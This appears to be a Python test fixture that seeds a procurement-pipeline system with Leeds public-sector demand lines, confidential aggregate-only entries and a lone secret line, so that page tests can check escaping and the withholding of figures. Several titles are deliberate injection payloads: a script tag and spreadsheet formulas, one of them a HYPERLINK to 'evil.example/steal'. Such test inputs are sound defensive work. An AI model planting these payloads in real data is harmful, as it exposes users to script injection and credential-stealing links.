"""A small city network for the page tests, posted through the public API of a running system.

Eight anchors post public lines over the next eight quarters across eight CPV divisions;
four of them also post aggregate-only lines where at least three anchors meet, so most
figures are published; one more aggregate-only line (``SECRET``) stands alone in its
division and quarter, so the figures around it are withheld. Some titles carry markup and
spreadsheet formulas, stored verbatim as anchors may write them.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx

ANCHORS = [
    ("Leeds City Council", "local_authority"),
    ("Leeds Teaching Hospitals NHS Trust", "nhs_trust"),
    ("Leeds Community Healthcare NHS Trust", "nhs_trust"),
    ("University of Leeds", "university"),
    ("Leeds Beckett University", "university"),
    ("Leeds City College", "college"),
    ("Leeds & Yorkshire Housing <b>Association</b>", "housing_association"),
    ("West Yorkshire Fire and Rescue Service", "fire"),
]
# (title, CPV code, value in pounds, days from today to the tender, VCSE, SME)
PUBLIC = [
    ("School meals for 40 primary schools", "55524000", 1_800_000, 40, True, True),
    ("Hospital patient catering", "55320000", 950_000, 130, False, True),
    ("Community café at the civic hall", "55410000", 120_000, 220, True, True),
    ("Office cleaning, city centre estate", "90910000", 640_000, 75, True, True),
    ("Clinical waste collection", "90524000", 410_000, 300, False, True),
    ("Graffiti removal and street cleansing", "90610000", 260_000, 480, True, True),
    ("Refurbishment of the central library", "45453000", 2_400_000, 100, False, True),
    ("New fire station roof", "45261000", 780_000, 390, False, True),
    ("Student accommodation repairs", "45453000", 1_250_000, 560, False, True),
    ("Social prescribing link workers", "85320000", 560_000, 55, True, True),
    ("Domiciliary care, north-east Leeds", "85310000", 3_100_000, 210, True, True),
    ("Mental health peer support", "85312000", 230_000, 620, True, True),
    ("Recruitment advertising", "79341000", 150_000, 160, False, True),
    ("Translation and interpreting", "79530000", 310_000, 450, True, True),
    ("Digital inclusion training for tenants", "80500000", 90_000, 250, True, True),
    ("Apprenticeship training provider", "80530000", 420_000, 520, True, True),
    ("Case management software", "72212000", 700_000, 350, False, True),
    ("Website accessibility audit", "72000000", 45_000, 600, True, True),
    ("Parks grounds maintenance", "77310000", 880_000, 140, True, True),
    ("Tree planting programme", "77211400", 190_000, 660, True, True),
    ('<script>alert("pwned")</script> Kitchen refit', "45421000", 330_000, 270, False, True),
    ('=HYPERLINK("http://evil.example/steal","Click for details")', "79410000", 60_000, 180, True, True),
    ("+SUM(1,2) grounds survey", "77310000", 35_000, 420, True, True),
    ("@SUM(A1:A9) print services", "79810000", 55_000, 500, False, True),
    ("-2+3 minibus hire", "60130000", 48_000, 230, True, True),
]
# Aggregate-only lines that anchors 1-4 share in the same divisions and quarters.
SHARED = [
    ("Confidential care package", "85310000", 400_000, 210),
    ("Confidential cleaning", "90910000", 300_000, 75),
]
SECRET_TITLE = "Unannounced secure unit secret-7731"
SECRET_VALUE_PENCE = 4_321_987  # £43,219.87
SECRET_CPV = "98341000"  # 98: other community, social and personal services
SECRET_DAYS = 330


@dataclass
class City:
    anchors: dict[str, dict[str, Any]] = field(default_factory=dict)  # by name
    public: list[dict[str, Any]] = field(default_factory=list)
    aggregate_only: list[dict[str, Any]] = field(default_factory=list)
    secret: dict[str, Any] = field(default_factory=dict)
    secret_anchor: dict[str, Any] = field(default_factory=dict)

    @property
    def script_line(self) -> dict[str, Any]:
        return next(line for line in self.public if line["title"].startswith("<script>"))


def _line(
    anchor_id: str, title: str, code: str, pounds: int, days: int, vcse: bool, sme: bool, **extra: Any
) -> dict[str, Any]:
    tender = date.today() + timedelta(days=days)
    return {
        "anchor_id": anchor_id,
        "title": title,
        "description": f"{title}. Published for the page tests.",
        "cpv_codes": [code],
        "estimated_value_pence": pounds * 100,
        "category": "works" if code.startswith("45") else "services",
        "procurement_method": "open",
        "expected_tender_date": tender.isoformat(),
        "contract_start": (tender + timedelta(days=90)).isoformat(),
        "duration_months": 24,
        "suitable_for_vcse": vcse,
        "suitable_for_sme": sme,
        "requirements": [
            {"code": "public_liability_insurance", "min_value_pence": 500_000_000},
            {"code": "safeguarding_policy"},
        ],
        "social_value_priorities": ["local_employment"],
        "delivery_area": {"label": "Leeds", "postcode_areas": ["LS"], "postcode_districts": []},
        "lots": [
            {"title": "North", "estimated_value_pence": pounds * 50},
            {"title": "South", "estimated_value_pence": pounds * 50},
        ]
        if pounds > 1_000_000
        else [],
        **extra,
    }


async def build_city(http: httpx.AsyncClient) -> City:
    """Post the city through the gateway as staff; wait until a snapshot holds all of it."""
    city = City()
    for name, kind in ANCHORS:
        response = await http.post("/api/v1/anchors", json={"name": name, "type": kind})
        assert response.status_code == 201, response.text
        city.anchors[name] = response.json()
    ids = [a["id"] for a in city.anchors.values()]
    for n, (title, code, pounds, days, vcse, sme) in enumerate(PUBLIC):
        response = await http.post(
            "/api/v1/demand", json=_line(ids[n % len(ids)], title, code, pounds, days, vcse, sme)
        )
        assert response.status_code == 201, response.text
        city.public.append(response.json())
    # The last change a snapshot is sure to follow: the secret line alone is held back (one anchor).
    shared_from = datetime.now(UTC)
    for title, code, pounds, days in SHARED:
        for k, anchor_id in enumerate(ids[:4]):
            body = _line(
                anchor_id,
                f"{title} {k}",
                code,
                pounds + 10_000 * k,
                days + k,
                True,
                True,
                visibility="aggregate_only",
            )
            response = await http.post("/api/v1/demand", json=body)
            assert response.status_code == 201, response.text
            city.aggregate_only.append(response.json())
    city.secret_anchor = city.anchors["Leeds City College"]
    body = _line(
        city.secret_anchor["id"],
        SECRET_TITLE,
        SECRET_CPV,
        0,
        SECRET_DAYS,
        True,
        True,
        visibility="aggregate_only",
    )
    body["estimated_value_pence"] = SECRET_VALUE_PENCE
    response = await http.post("/api/v1/demand", json=body)
    assert response.status_code == 201, response.text
    city.secret = response.json()
    city.aggregate_only.append(city.secret)
    await published_after(http, shared_from)
    return city


async def published_after(http: httpx.AsyncClient, moment: datetime, timeout: float = 30.0) -> dict[str, Any]:
    """The pipeline once a snapshot generated after ``moment`` is out."""
    deadline = time.monotonic() + timeout
    while True:
        response = await http.get("/api/v1/pipeline", params={"group_by": "quarter"})
        assert response.status_code == 200, response.text
        body = response.json()
        generated = body.get("generated_at")
        if generated and datetime.fromisoformat(generated.replace("Z", "+00:00")) > moment:
            return dict(body)
        if time.monotonic() > deadline:
            raise TimeoutError(f"no snapshot after {moment} (last: {generated})")
        await asyncio.sleep(0.1)
